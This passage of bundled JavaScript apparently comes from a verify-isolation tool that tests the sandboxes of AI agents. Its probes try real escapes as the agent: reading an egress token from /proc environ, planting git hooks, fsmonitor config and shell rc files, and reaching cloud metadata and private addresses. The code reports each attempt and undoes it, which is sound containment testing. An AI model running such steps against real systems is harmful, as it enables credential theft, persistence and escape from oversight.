s.on('connect', () => s.write('GET http://' + host + ':' + port + '/ HTTP/1.1\\r\\nHost: ' + host + ':' + port + '\\r\\nConnection: close\\r\\n\\r\\n'))
`;
/** Connects to `socketPath` as `uid` (undefined: this process's) and returns the answer's first line. */
function connectAs(socketPath, host, port, uid) {
    return new Promise((resolve) => {
        const ids = uid === undefined ? {} : { uid, gid: uid };
        const c = (0,external_node_child_process_.spawn)(process.execPath, ['-e', ATTEMPT_JS, socketPath, host, String(port)], {
            ...ids,
            stdio: ['ignore', 'pipe', 'pipe']
        });
        let out = '';
        let err = '';
        const timer = setTimeout(() => c.kill('SIGKILL'), ATTEMPT_TIMEOUT_MS);
        c.stdout.on('data', (d) => (out += d.toString()));
        c.stderr.on('data', (d) => (err += d.toString()));
        c.on('error', (e) => resolve(`ERROR ${e.message}`));
        c.on('close', () => {
            clearTimeout(timer);
            resolve(out.trim() || `ERROR ${err.trim().split('\n')[0] || 'no answer'}`);
        });
    });
}
/** Whether an answer line means the request was served (anything but the gate's refusal). */
function served(answer) {
    return /^HTTP\/1\.[01] (?!403)\d{3}/.test(answer);
}
/** The host path of the agent's egress socket, from the container's mounts. */
async function hostSocket(ctx) {
    const info = await ctx.inspect();
    const m = info.Mounts?.find((x) => x.Destination === egress/* EGRESS_DIR_IN_SANDBOX */.wJ);
    return m ? (0,external_node_path_.join)(m.Source, egress/* PROXY_SOCKET_NAME */.nZ) : undefined;
}
// As the agent: the relay's environment (where its token is) must be unreadable.
const READ_RELAY_ENV = `for p in $(ps -eo pid=,args= | grep -E '${egress/* EGRESS_DIR_IN_SANDBOX */.wJ}/forward\\.(py|mjs) ' | grep -v -e --probe -e grep | awk '{print $1}'); do
  if tr '\\0' '\\n' < /proc/$p/environ 2>/dev/null | grep -q '^MASSGEN_EGRESS_TOKEN=.'; then echo "READ $p"; else echo "DENIED $p"; fi
done`;
const egressSocketProbe = {
    id: 'egress-socket',
    number: 28,
    title: "egress: the agent's egress socket on the host refuses every process but the agent's relay (other users, even nobody)",
    phase: 'parallel',
    async run(ctx) {
        const e = ctx.egress;
        if (!e)
            return skip(NO_EGRESS);
        const socketPath = await hostSocket(ctx);
        if (!socketPath)
            return fail(`the container has no egress mount at ${egress/* EGRESS_DIR_IN_SANDBOX */.wJ}`);
        const { allowedName, port } = e.fixture;
        const me = process.getuid?.() ?? -1;
        const attempts = [[`uid ${me}`, undefined]];
        if (me === 0)
            attempts.push([`uid ${OTHER_UID}`, OTHER_UID]);
        const problems = [];
        const saw = [];
        for (const [who, uid] of attempts) {
            const answer = await connectAs(socketPath, allowedName, port, uid);
            if (served(answer))
                problems.push(`${who} on the host reached ${allowedName} through the socket (${answer})`);
            else
                saw.push(`${who}: ${answer || 'closed'}`);
        }
        const env = await ctx.agentExec(READ_RELAY_ENV);
        const read = env.stdout.split('\n').filter((l) => l.startsWith('READ '));
        if (read.length)
            problems.push(`the agent read the relay's token from /proc (${list(read)})`);
        if (problems.length)
            return fail(list(problems));
        return pass(`${socketPath} refused connections without the relay token (${list(saw)}); the relay's environment is unreadable to the agent`);
    }
};

;// CONCATENATED MODULE: ./src/isolation/probes/disk.ts
// Probe 29: command_line_disk_limit holds. A step writes past the agent's limit into its scratch
// directory (a bounded write: at most 1 GiB, so a limit that does not hold cannot fill the runner)
// and must be stopped with the disk-limit reason, the file short of what was asked; the file is
// removed afterwards. A limit above what the probe may write is a skip with the reason.

const MiB = 1024 ** 2;
/** The most the probe writes (a limit above it is not tested: set a smaller one for the check). */
const MAX_DISK_PROBE_BYTES = 1024 * MiB;
/** How far past the limit the probe writes. */
const PAST_LIMIT_BYTES = 256 * MiB;
const diskLimitProbe = {
    id: 'disk-limit',
    number: 29,
    title: 'a step writing past command_line_disk_limit is stopped with the reason, short of its write',
    phase: 'disruptive',
    async run(ctx) {
        const limit = ctx.config.diskLimitBytes;
        if (limit === undefined)
            return fail('the agent has no disk limit (command_line_disk_limit)');
        const mib = Math.ceil((limit + PAST_LIMIT_BYTES) / MiB);
        if (mib * MiB > MAX_DISK_PROBE_BYTES)
            return skip(`command_line_disk_limit ${Math.round(limit / MiB)} MiB is above what the probe writes (${MAX_DISK_PROBE_BYTES / MiB} MiB); set a smaller limit in the isolation config to check it`);
        const file = `${ctx.scratch}/disk-probe.bin`;
        const r = await ctx.agentExec(
        // A sustained writer (each block synced): a burst into the page cache can finish within one
        // measuring interval, which the limit reports but cannot stop (README, Disk limit).
        `dd if=/dev/zero of='${file}' bs=256k count=${mib * 4} oflag=dsync 2>/dev/null; echo WROTE; ls -s '${file}'`, { timeoutMs: 180_000 });
        const left = await ctx.agentExec(`ls -s '${file}' 2>/dev/null; rm -f '${file}'`);
        const kib = Number(/^\s*(\d+)/.exec(left.stdout)?.[1] ?? 'NaN');
        const size = Number.isFinite(kib) ? `${Math.round(kib / 1024)} MiB` : 'an unknown size';
        if (!r.diskLimit)
            return fail(`wrote ${mib} MiB against a limit of ${Math.round(limit / MiB)} MiB without being stopped (${r.timedOut ? 'timed out' : `exit ${r.exitCode}`}; the file: ${size})`);
        if (r.stdout.includes('WROTE'))
            return fail(`the step was reported over the limit but not stopped (${r.diskLimit})`);
        return pass(`${r.diskLimit}; the ${mib} MiB write was stopped at ${size}`);
    }
};

;// CONCATENATED MODULE: ./src/isolation/probes/srt.ts
// verify-isolation for srt agents: the probes that apply to a sandbox-runtime sandbox on the host,
// each a real attempt made as the agent through its session (as a step runs), checked from the
// host where the sandbox cannot be trusted to say. Numbers follow the container probes where the
// meaning is the same; the container probes that have no counterpart are listed, with the reason,
// in SRT_NOT_APPLICABLE (reported as `skip`).


/** What the protected-names probe writes at the top of each writable path, and how. */
const PROTECTED_WRITES = [
    { rel: '.git/config', how: (p) => `echo '[core] fsmonitor = probe' >> ${sh(p)}` },
    { rel: '.git/hooks/pre-commit', how: (p) => `mkdir -p ${sh(dirOf(p))} && echo x > ${sh(p)}` },
    { rel: '.envrc', how: (p) => `echo x > ${sh(p)}` },
    { rel: '.profile', how: (p) => `echo x >> ${sh(p)}` },
    {
        rel: '.bashrc',
        how: (p) => `t=${sh(p)}.tmp-$$; echo x > "$t" && mv -f "$t" ${sh(p)}; r=$?; rm -f "$t"; exit $r`
    },
    { rel: '.zshrc', how: (p) => `ln -s /bin/true ${sh(p)}` },
    { rel: '.gitmodules', how: (p) => `echo x > ${sh(p)}` },
    {
        rel: '.vscode/settings.json',
        how: (p) => `mkdir -p ${sh(dirOf(p))} && echo '{}' > ${sh(p)}`
    }
];
const dirOf = (p) => p.slice(0, p.lastIndexOf('/'));
/** A path's state on the host: its bytes, its link target, or absent. */
async function hostState(p) {
    try {
        const st = await (0,promises_.lstat)(p);
        if (st.isSymbolicLink())
            return `link:${await (0,promises_.readlink)(p)}`;
        if (st.isDirectory())
            return `dir:${(await (0,promises_.readdir)(p)).sort().join('/')}`;
        return `file:${(await (0,promises_.readFile)(p)).toString('base64')}`;
    }
    catch {
        return 'absent';
    }
}
const protectedNamesProbe = {
    id: 'protected-names',
    number: 31,
    phase: 'parallel',
    title: 'git hooks and config, shell rc and profile files, .envrc and IDE settings in the writable paths can be neither modified nor created (git config, >>, rename over, ln -s, mkdir then write; in a new directory, undone and the step failed)',
    async run(ctx) {
        if (ctx.srt.readOnly)
            return skip('read_only: no writable path');
        const roots = [
            ctx.agent.workspace,
            ...ctx.agent.contextPaths.filter((c) => c.permission === 'write').map((c) => c.path)
        ];
        const nested = `${ctx.scratch}/protected-probe-${process.pid}/sub`;
        const targets = [
            ...roots.flatMap((r) => PROTECTED_WRITES.map((w) => ({ path: `${r}/${w.rel}`, how: w.how }))),
            {
                path: `${nested}/.git/hooks/x`,
                how: (p) => `mkdir -p ${sh(dirOf(p))} && echo x > ${sh(p)}`
            }
        ];
        const watched = [...new Set(targets.flatMap((t) => [t.path, dirOf(t.path)]))];
        const before = new Map();
        for (const p of watched)
            before.set(p, await hostState(p));
        const gitConfigs = roots.filter((r) => before.get(`${r}/.git`)?.startsWith('dir:'));
        const script = [
            ...gitConfigs.map((r) => `if (cd ${sh(r)} && git config core.fsmonitor 'echo probe') >/dev/null 2>&1; then echo "WROTE ${r}/.git/config (git config)"; fi`),
            ...targets
                .slice(0, -1)
                .map((t) => `if (${t.how(t.path)}) 2>/dev/null; then echo "WROTE ${t.path}"; fi`),
            `(${targets[targets.length - 1].how(nested + '/.git/hooks/x')}) 2>/dev/null`,
            'echo DONE'
        ].join('\n');
        let r;
        const changed = [];
        try {
            r = await ctx.agentExec(script);
        }
        finally {
            for (const t of targets)
                if ((await hostState(t.path)) !== before.get(t.path))
                    changed.push(t.path);
            // Whatever reached the host is put back as it was (the probe must not leave a hook behind).
            for (const p of [...watched].reverse()) {
                const was = before.get(p);
                if ((await hostState(p)) === was)
                    continue;
                if (was === 'absent')
                    await (0,promises_.rm)(p, { recursive: true, force: true }).catch(() => undefined);
                else if (was.startsWith('file:'))
                    await (0,promises_.writeFile)(p, Buffer.from(was.slice(5), 'base64')).catch(() => undefined);
            }
            await (0,promises_.rm)(dirOf(dirOf(nested)), { recursive: true, force: true }).catch(() => undefined);
        }
        if (!r.stdout.includes('DONE'))
            return fail(`the writes did not complete (exit ${r.exitCode})`);
        const wrote = tagged(r.stdout, 'WROTE');
        if (wrote.length || changed.length)
            return fail(`written: ${list([...new Set([...wrote, ...changed.map((c) => `${c} (on the host)`)])])}`);
        if (!r.violation)
            return fail(`a hook made in a new directory (${nested}/.git/hooks/x) was not undone`);
        return pass(`${targets.length - 1 + gitConfigs.length} writes refused in ${roots.length} writable path(s); a hook made in a new directory was undone and failed the step`);
    }
};
/** Probe 20 for srt agents: evaluated by the check once every session closed. */
const SRT_CLEANUP_PROBE = {
    id: 'cleanup',
    number: 20,
    title: 'after the sessions close no process of the agents and no private temp directory remains'
};

;// CONCATENATED MODULE: ./src/isolation/probes/index.ts

















const NO_LIMITS = 'srt sets no resource limits (processes, memory, CPU, tmpfs sizes): whatever the host or runner enforces applies';
const probes_docker = (p, inSrt) => ({
    ...p,
    runs: 'docker',
    appliesTo: (s) => s === 'docker' || inSrt
});
/** `sibling`: the docker probe of the same number, which docker runs instead. */
const srtOnly = (p, inDocker) => ({
    ...p,
    runs: 'srt',
    appliesTo: (s) => s === 'srt' || inDocker
});
const both = (p) => ({
    ...p,
    runs: 'both',
    appliesTo: () => true
});
const after = (p, sandbox, elsewhere) => ({
    ...p,
    phase: 'engine',
    runs: 'after',
    sandbox,
    appliesTo: (s) => s === sandbox || elsewhere
});
const insteadOf = (p, sandbox) => `${sandbox} runs ${p.id} (${p.number}) in its place`;
const PROBES = [
    probes_docker(auditProbe, insteadOf(srtSandboxProbe, 'srt')),
    srtOnly(srtSandboxProbe, insteadOf(auditProbe, 'docker')),
    probes_docker(rootfsWriteProbe, insteadOf(srtWritesProbe, 'srt')),
    srtOnly(srtWritesProbe, insteadOf(rootfsWriteProbe, 'docker')),
    probes_docker(hostPathsProbe, insteadOf(srtReadsProbe, 'srt')),
    srtOnly(srtReadsProbe, insteadOf(hostPathsProbe, 'docker')),
    probes_docker(networkProbe, 'srt has its own network probe (4)'),
    srtOnly(srtNetworkProbe, 'docker has its own network probe (4)'),
    probes_docker(dockerSocketProbe, insteadOf(srtUnixSocketsProbe, 'srt')),
    srtOnly(srtUnixSocketsProbe, insteadOf(dockerSocketProbe, 'docker')),
    probes_docker(forkBombProbe, NO_LIMITS),
    probes_docker(memoryBombProbe, NO_LIMITS),
    probes_docker(cpuProbe, NO_LIMITS),
    probes_docker(procSysProbe, 'covered by srt-sandbox (1)'),
    probes_docker(privilegedOpsProbe, 'covered by srt-sandbox (1): mount and unshare'),
    probes_docker(ptraceProbe, 'covered by srt-sandbox (1): no other process is visible'),
    probes_docker(setuidProbe, 'srt runs as the host user; no-new-privileges (srt-sandbox, 1) keeps setuid from raising it'),
    probes_docker(seccompProbe, 'covered by srt-sandbox (1)'),
    probes_docker(canaryProbe, 'srt has its own canary probe (14)'),
    srtOnly(srtCanaryProbe, 'docker has its own canary probe (14)'),
    probes_docker(timeoutsProbe, 'srt has its own timeouts probe (15)'),
    srtOnly(srtTimeoutsProbe, 'docker has its own timeouts probe (15)'),
    both(outputFloodProbe),
    probes_docker(sizeLimitsProbe, NO_LIMITS),
    both(symlinkProbe),
    probes_docker(crossAgentProbe, 'srt has its own cross-agent probe (19)'),
    srtOnly(srtCrossAgentProbe, 'docker has its own cross-agent probe (19)'),
    after(CLEANUP_PROBE, 'docker', 'srt checks its own cleanup (20)'),
    after(SRT_CLEANUP_PROBE, 'srt', 'docker checks its own cleanup (20)'),
    after(ENGINE_PROBE, 'docker', 'no container engine is involved'),
    probes_docker(harnessShimsProbe, 'nothing runs in the sandbox as another user: file steps run as the agent, and the timeout check reads /proc on the host'),
    probes_docker(egressAllowedProbe, 'srt has its own egress-allowed probe (23): no relay of its own'),
    srtOnly(srtEgressAllowedProbe, 'docker has its own egress-allowed probe (23)'),
    // The docker egress probes, unchanged: they reach the proxy through HTTP_PROXY as srt does.
    both(egressRefusedProbe),
    both(egressBypassProbe),
    both(egressPrivateProbe),
    probes_docker(runtimeProbe, 'no OCI runtime is involved: commands run in a bubblewrap sandbox on the host kernel'),
    probes_docker(egressSocketProbe, "no per-agent socket: srt agents share one loopback front that routes by each agent's proxy token"),
    probes_docker(diskLimitProbe, 'srt agents have no disk limit (docker only)'),
    probes_docker(readOnlySubmountsProbe, 'bubblewrap remounts each mount below a read-only bind read-only too (writes-outside, 2, tries the read-only paths)'),
    srtOnly(protectedNamesProbe, "srt only: the protected names are sandbox-runtime's write rule")
];
/**
 * The rows a sandbox reports, by number. The container probes' numbering is the matrix's: a
 * sandbox reports each number once, its own probe(s) of that number or, where it has none, the
 * container probe with the reason it does not apply (a skip).
 */
function rows(sandbox, registry = PROBES) {
    const mine = registry.filter((p) => p.appliesTo(sandbox) === true);
    const numbered = new Set(mine.map((p) => p.number));
    const absent = registry.filter((p) => p.appliesTo('docker') === true && !numbered.has(p.number));
    return [...mine, ...absent].sort((a, b) => a.number - b.number);
}
/** A row of the matrix: a probe that does not apply says so in its title. */
function rowOf(p, sandbox) {
    const { id, number, title } = p;
    return p.appliesTo(sandbox) === true
        ? { id, number, title }
        : { id, number, title: `${id} (not applicable to ${sandbox})` };
}
/** Always reported, whatever subset of probes was asked for. */
const ALWAYS = [CLEANUP_PROBE.id, ENGINE_PROBE.id];
/** The rows of the matrix for the sandboxes present (one row per id), limited to `only`. */
function probeList(sandboxes, only, registry = PROBES) {
    const out = new Map();
    for (const s of sandboxes)
        for (const p of rows(s, registry))
            if (!out.has(p.id) && (!only || only.includes(p.id) || ALWAYS.includes(p.id)))
                out.set(p.id, rowOf(p, s));
    return [...out.values()].sort((a, b) => a.number - b.number || a.id.localeCompare(b.id));
}
/** Whether a probe runs in a sandbox in this phase (and in the subset asked for). */
const runsIn = (p, sandbox, phase, only) => p.phase === phase && p.appliesTo(sandbox) === true && (!only || only.includes(p.id));
/** The probes a sandbox runs in a phase, typed on that sandbox's context. */
function dockerProbes(phase, only) {
    return PROBES.flatMap((p) => (p.runs === 'docker' || p.runs === 'both') && runsIn(p, 'docker', phase, only) ? [p] : []);
}
function srtProbes(phase, only) {
    return PROBES.flatMap((p) => (p.runs === 'srt' || p.runs === 'both') && runsIn(p, 'srt', phase, only) ? [p] : []);
}

;// CONCATENATED MODULE: ./src/isolation/peer.ts
// The throwaway peer both sandboxes' verification starts when a config has a single agent: probes
// that need a second agent (fork bomb, cross-agent reads) get one with the same sandbox settings
// and an empty workspace of its own.



/** The peer's plan; its workspace is new (the caller removes it) and `mode` is set on it if given. */
async function throwawayPeerPlan(base, prefix, mode) {
    const ws = await (0,promises_.realpath)(await (0,promises_.mkdtemp)((0,external_node_path_.join)((0,external_node_os_.tmpdir)(), prefix)));
    if (mode !== undefined)
        await (0,promises_.chmod)(ws, mode);
    return {
        ...base,
        id: `${base.id}-peer`,
        workspace: ws,
        contextPaths: [],
        tempWorkspace: undefined,
        steps: []
    };
}

;// CONCATENATED MODULE: ./src/isolation/sandboxes.ts
// One path for every sandbox verify-isolation probes: start the agents through the runtime `run`
// uses (so each sandbox is exactly what a run gets), give a lone agent a throwaway peer, mark the
// peers, run the registry's probes phase by phase, and report what does not apply. What differs
// between docker and srt (the peer's markers, the probe context, what "cleaned up" means) is a
// SandboxKind's (docker.ts, srt.ts).








/** Starts a kind's agents in parallel (and a throwaway peer for a lone one), then marks the peers. */
async function startAll(kind, agents, scope, rowIds) {
    const out = { kind, started: [], peers: [], failed: [] };
    const starts = await Promise.allSettled(agents.map((a) => startAgent(kind, a, scope)));
    starts.forEach((s, i) => {
        if (s.status === 'fulfilled')
            out.started.push(s.value);
        else {
            const message = scope.redactor.apply(s.reason.message);
            out.failed.push({
                id: agents[i].id,
                ...(kind.sandbox === 'docker' ? { image: agents[i].docker?.image } : {}),
                error: message,
                results: rowsOf(kind.sandbox, rowIds).map((p) => ({
                    id: p.id,
                    number: p.number,
                    ...fail(`${kind.startFailure}: ${message}`),
                    durationMs: 0
                }))
            });
        }
    });
    const env = starts.find((s) => s.status === 'rejected' && (0,errors/* isEnvironmentError */.oz)(s.reason));
    if (env && !out.started.length)
        out.environment = env.reason;
    out.peers = [...out.started];
    if (out.started.length === 1) {
        const base = out.started[0].agent;
        const plan = await throwawayPeerPlan(base, kind.peer.prefix, kind.peer.mode);
        scope.defer(() => (0,promises_.rm)(plan.workspace, { recursive: true, force: true }));
        try {
            out.peers.push({ ...(await startAgent(kind, plan, scope)), peerOf: base.id });
        }
        catch (e) {
            scope.log(`[${plan.id}] the throwaway peer did not start (${e.message})${kind.peer.without}`);
        }
    }
    await kind.markPeers(out.peers);
    // What the probes do is one step of the run as far as egress is concerned.
    for (const p of out.peers)
        p.session.beginStep({ index: 0, name: 'verify-isolation', egress: true });
    for (const s of out.started)
        s.ctx = kind.context(s, out.peers.filter((p) => p !== s));
    return out;
}
async function startAgent(kind, agent, scope) {
    // As `run` does: a workspace this run creates is the agent's (a root runner's sandbox user).
    await (0,run_plan/* prepareWorkspace */.t0)(agent);
    // The runtime prefixes its own lines with the agent id (as in a run): no second prefix here.
    const session = await kind.runtime.start(agent, {
        runId: scope.runId,
        outDir: scope.outDir,
        log: scope.log
    });
    // Closed when the scope closes (before the runtimes clean up), whatever happens after.
    scope.defer(() => session.close());
    const scratch = (0,external_node_path_.join)(agent.workspace, `.massgen-isolation-${(0,external_node_crypto_.randomBytes)(4).toString('hex')}`);
    scope.defer(() => (0,promises_.rm)(scratch, { recursive: true, force: true }));
    const s = { agent, session, scratch, result: { id: agent.id, results: [] } };
    // Made by the agent, through the session, as a step would.
    await agentShell(s, `mkdir -p '${scratch}'`);
    Object.assign(s.result, kind.describe(s));
    return s;
}
function agentShell(s, command) {
    return s.session.exec({
        command,
        cwd: s.agent.workspace,
        env: {},
        timeoutMs: 30_000,
        maxOutputBytes: 4096
    });
}
/** The agent's shell, through its session (policy-free, as a step would run it). */
function agentExec(s) {
    return (script, o = {}) => s.session.exec({
        command: script,
        cwd: s.agent.workspace,
        env: {},
        timeoutMs: o.timeoutMs ?? 30_000,
        maxOutputBytes: o.maxOutputBytes ?? 1024 * 1024
    });
}
/** A kind's probes of one phase, one job per agent. */
function phaseJobs(k, phase, only, redactor, log) {
    return k.started.map((s) => () => runProbes(s, k.kind.probes(phase, only), redactor, log));
}
/** The phases, every kind's agents together: parallel, disruptive, then exclusive one at a time. */
async function runPhases(jobs) {
    await Promise.all(jobs('parallel').map((f) => f()));
    await Promise.all(jobs('disruptive').map((f) => f()));
    for (const f of jobs('exclusive'))
        await f();
}
/** Runs probes one after another against one agent; a probe that throws fails. */
async function runProbes(s, probes, redactor, log) {
    for (const probe of probes) {
        const t = Date.now();
        let outcome;
        try {
            outcome = await probe.run(s.ctx);
        }
        catch (e) {
            outcome = fail(`the probe itself failed: ${e.message}`);
        }
        const r = timed(probe, { status: outcome.status, detail: redactor.apply(outcome.detail) }, Date.now() - t);
        s.result.results.push(r);
        log(`[${s.agent.id}] ${r.number} ${r.id}: ${r.status.toUpperCase()} — ${r.detail} [${r.durationMs} ms]`);
    }
}
/** Removes the scratch directories (as the agent) and saves the sessions' logs. */
async function wrapUp(started, outDir, log) {
    for (const s of started) {
        await agentShell(s, `rm -rf '${s.scratch}'`).catch(() => undefined);
        await s.session
            .saveLogs((0,external_node_path_.join)(outDir, s.agent.id))
            .catch((e) => log(`[${s.agent.id}] could not save logs: ${e.message}`));
    }
}
/**
 * Once the sessions closed: each started agent's `after` probes, and a skip (with the reason) for
 * every row of the matrix that does not apply to its sandbox; results in number order.
 */
async function finishResults(k, rowIds) {
    for (const s of k.started) {
        const after = await k.kind.after(s, k.peers);
        for (const p of rowsOf(k.kind.sandbox, rowIds)) {
            const applies = p.appliesTo(k.kind.sandbox);
            if (applies !== true)
                s.result.results.push(timed(p, skip(applies), 0));
            else if (p.runs === 'after' && after[p.id])
                s.result.results.push(timed(p, after[p.id], 0));
        }
        s.result.results.sort((a, b) => a.number - b.number);
    }
    return [...k.started.filter((s) => !s.peerOf).map((s) => s.result), ...k.failed];
}
/** The registry's rows of a sandbox that are in the matrix. */
function rowsOf(sandbox, rowIds) {
    return rows(sandbox).filter((p) => rowIds.includes(p.id));
}
function timed(p, o, durationMs) {
    return { id: p.id, number: p.number, status: o.status, detail: o.detail, durationMs };
}

;// CONCATENATED MODULE: ./src/isolation/docker.ts
// The docker side of verify-isolation: the probe context (the engine client, the container, root
// execs for baselines), peers marked by a file and a process run as nobody in their container, and
// what is evaluated once the containers are gone (probe 20 by the run's labels, 21 the engine's
// known CVEs for this agent's exposure).










function dockerKind(o) {
    const marks = new Map();
    let left;
    return {
        sandbox: 'docker',
        runtime: o.runtime,
        // 0755: the container's uid must reach the workspace the runner's user created.
        peer: {
            prefix: 'massgen-isolation-peer-',
            mode: 0o755,
            without: '; probes 6 and 19 go without it'
        },
        startFailure: 'the container could not be started',
        describe: (s) => ({ container: s.session.info.container, image: s.session.info.image }),
        async markPeers(peers) {
            for (const p of peers)
                marks.set(p, await markPeer(o.client, p));
        },
        context(s, peers) {
            const ctx = dockerContext(o, s, [...marks].filter(([p]) => peers.includes(p)).map(([, m]) => m));
            s.result.runtime = ctx.runtime.name;
            return ctx;
        },
        probes: dockerProbes,
        async after(s) {
            // Once for every agent: the run's containers after cleanup.
            const containers = await (left ??= leftoverContainers(o.client, o.runId));
            return {
                [CLEANUP_PROBE.id]: cleanupOutcome(containers, [s.agent.id, `${s.agent.id}-peer`]),
                [ENGINE_PROBE.id]: engineOutcome(evaluateCves(o.facts.components, exposureOf(s.agent, o.facts)))
            };
        }
    };
}
function dockerContext(o, s, peers) {
    const config = s.agent.docker ?? (0,docker.dockerDefaults)();
    const container = s.session.info.container;
    // The container exists, so the engine took the runtime: the check only names it here.
    const check = (0,docker.checkRuntime)(config, {
        Runtimes: o.facts.runtime.runtimes,
        DefaultRuntime: o.facts.runtime.defaultRuntime
    });
    const runtime = check.ok
        ? check.runtime
        : { name: config.runtime ?? o.facts.runtime.defaultRuntime, gvisor: false };
    const { client } = o;
    return {
        client,
        inspect: () => client.inspectContainer(container),
        runId: o.runId,
        agent: s.agent,
        config,
        runtime,
        engine: o.facts.runtime,
        expectRuntime: o.expectRuntime,
        session: s.session,
        container,
        // Prefer the config's other agents as peers; a throwaway only when there is none.
        peers: [...peers.filter((p) => p.fromConfig), ...peers.filter((p) => !p.fromConfig)],
        host: o.host,
        canary: o.canary,
        scratch: s.scratch,
        collectors: o.collectors(s),
        uid: (0,user/* parseUser */.tN)(String(s.session.info.limits?.user ?? config.user)).uid,
        agentExec: agentExec(s),
        rootExec: (cmd, timeoutMs) => (0,docker.harnessExec)((0,docker.execTarget)(client, container), {
            cmd,
            user: '0:0',
            maxOutputBytes: 1024 * 1024,
            timeoutMs
        }),
        log: (l) => o.log(`[${s.agent.id}] ${l}`),
        egress: o.egress(s.agent.id)
    };
}
/** A marker file in the peer's workspace and a marker process (as nobody) in its container. */
async function markPeer(client, p) {
    const container = p.session.info.container;
    const markerFile = (0,external_node_path_.join)(p.agent.workspace, `.massgen-isolation-peer-${(0,external_node_crypto_.randomBytes)(6).toString('hex')}`);
    await (0,promises_.writeFile)(markerFile, `marker of ${p.agent.id}\n`, { mode: 0o644 });
    const processTag = `86400.${(0,external_node_crypto_.randomBytes)(4).readUInt32BE(0) % 1_000_000}`.padEnd(12, '1');
    const exec = await client.exec(container, {
        Cmd: ['/bin/sleep', processTag],
        User: user/* NOBODY */.oQ,
        Env: [`PATH=${docker.HARNESS_PATH}`],
        AttachStdout: false,
        AttachStderr: false,
        Tty: false
    });
    // The response is a stream even when detached: drain it, or its socket holds the process open.
    const response = await exec.start({ detach: true });
    response?.resume?.();
    return {
        id: p.agent.id,
        plan: p.agent,
        session: p.session,
        container,
        markerFile,
        processTag,
        fromConfig: !p.peerOf
    };
}

// EXTERNAL MODULE: external "node:dns"
var external_node_dns_ = __webpack_require__(40610);
// EXTERNAL MODULE: external "node:dgram"
var external_node_dgram_ = __webpack_require__(41314);
// EXTERNAL MODULE: external "node:http"
var external_node_http_ = __webpack_require__(37067);
;// CONCATENATED MODULE: ./src/isolation/egress.ts
// What verify-isolation sets up on the host for agents with command_line_egress: an HTTP server and
// a UDP listener of its own, and probe names that only the agents' egress proxies know. The
// proxies resolve through `resolve` here (passed to the docker runtime), so no /etc/hosts entry
// and no DNS record is needed on the runner:
//   allowed.<label>    → the server, on a loopback address of its own (127.x.y.z, never 127.0.0.1)
//   <class>.<label>    → metadata, link-local, private, loopback and unique-local addresses
//   denied-<label>     → the server too, but not in any list: a refusal can only be the name's
//   *.dns-<label>      → never to be resolved: a proxy that resolved it leaked a DNS query
// Each egress agent's list gets one entry more, `*.<label>:<port>`, and its private ranges the
// server's own /32: nothing else of the config changes.




const systemResolve = (host) => new Promise((resolve, reject) => (0,external_node_dns_.lookup)(host, { all: true, verbatim: true }, (err, addresses) => err ? reject(err) : resolve(addresses.map((a) => a.address))));
async function startEgressFixture() {
    const hex = (0,external_node_crypto_.randomBytes)(5).toString('hex');
    const label = `${hex}.massgen-probe.invalid`;
    const token = `massgen-egress-probe-${(0,external_node_crypto_.randomBytes)(8).toString('hex')}`;
    const r = (0,external_node_crypto_.randomBytes)(3);
    // Any 127/8 address reaches a server bound to 0.0.0.0; never .1, where the runner's own
    // loopback services are, so that listing this one /32 opens nothing else.
    const address = `127.${100 + (r[0] % 100)}.${r[1]}.${1 + (r[2] % 250)}`;
    const server = (0,external_node_http_.createServer)((req, res) => {
        res.writeHead(200, { 'Content-Type': 'text/plain' });
        res.end(`${token}\n`);
    });
    server.on('error', () => undefined);
    await new Promise((resolve, reject) => {
        server.once('error', reject);
        server.listen(0, '0.0.0.0', () => resolve());
    });
    const port = server.address().port;
    const datagrams = [];
    const udp = (0,external_node_dgram_.createSocket)('udp4');
    udp.on('message', (msg) => {
        if (datagrams.length < 1000)
            datagrams.push(msg);
    });
    udp.on('error', () => undefined);
    await new Promise((resolve) => udp.bind(0, '0.0.0.0', () => resolve()));
    const udpPort = udp.address().port;
    const targets = [
        { cls: 'metadata', name: `metadata.${label}`, address: '169.254.169.254' },
        { cls: 'metadata', name: `ecs-metadata.${label}`, address: '169.254.170.2' },
        { cls: 'link-local', name: `link-local.${label}`, address: '169.254.10.10' },
        { cls: 'private', name: `private-10.${label}`, address: '10.0.0.1' },
        { cls: 'private', name: `private-172.${label}`, address: '172.16.0.1' },
        { cls: 'private', name: `private-192.${label}`, address: '192.168.0.1' },
        { cls: 'loopback', name: `loopback.${label}`, address: '127.0.0.1' },
        { cls: 'unique-local', name: `unique-local.${label}`, address: 'fd00::1' }
    ];
    const allowedName = `allowed.${label}`;
    const deniedName = `denied-${label}`;
    const table = new Map([
        [allowedName, address],
        [deniedName, address],
        ...targets.map((t) => [t.name, t.address])
    ]);
    const asked = [];
    const resolve = (host) => {
        if (asked.length < 10_000)
            asked.push(host);
        const mine = table.get(host.toLowerCase());
        if (mine)
            return Promise.resolve([mine]);
        if (host.toLowerCase().endsWith(`.dns-${label}`))
            return Promise.resolve([address]); // answered as a resolver would; the probe fails on the ask
        return systemResolve(host);
    };
    return {
        label,
        allowedName,
        deniedName,
        dnsName: (tag) => `${tag}.dns-${label}`,
        targets,
        address,
        port,
        token,
        udpPort,
        udpSeen: (tag) => datagrams.some((d) => d.includes(Buffer.from(tag))),
        resolved: () => [...asked],
        resolve,
        extend: (config) => ({
            ...config,
            allowedDomains: [...config.allowedDomains, `*.${label}:${port}`],
            allowedPrivateRanges: [...config.allowedPrivateRanges, `${address}/32`]
        }),
        async close() {
            server.closeAllConnections();
            await new Promise((resolve) => server.close(() => resolve()));
            await new Promise((resolve) => udp.close(() => resolve()));
        }
    };
}

// EXTERNAL MODULE: external "node:net"
var external_node_net_ = __webpack_require__(77030);
;// CONCATENATED MODULE: ./src/isolation/host.ts
// What the check sets up on the host before any container exists, and takes down afterwards:
// markers where agents must not see, a secret file for planted symlinks, a TCP listener.





const MARKER = () => `massgen-isolation-marker ${(0,external_node_crypto_.randomBytes)(12).toString('hex')}\n`;
/** `gateways`: addresses the host has as containers see it (the default bridge's gateway). */
async function setUpHost(home, gateways = []) {
    const outsideDir = await (0,promises_.realpath)(await (0,promises_.mkdtemp)((0,external_node_path_.join)((0,external_node_os_.tmpdir)(), 'massgen-isolation-')));
    // Readable by everyone: if an agent cannot see these, it is the mount namespace, not permissions.
    await (0,promises_.chmod)(outsideDir, 0o755);
    const outsideMarker = (0,external_node_path_.join)(outsideDir, 'marker.txt');
    await (0,promises_.writeFile)(outsideMarker, MARKER(), { mode: 0o644 });
    const secretToken = `massgen-secret-${(0,external_node_crypto_.randomBytes)(12).toString('hex')}`;
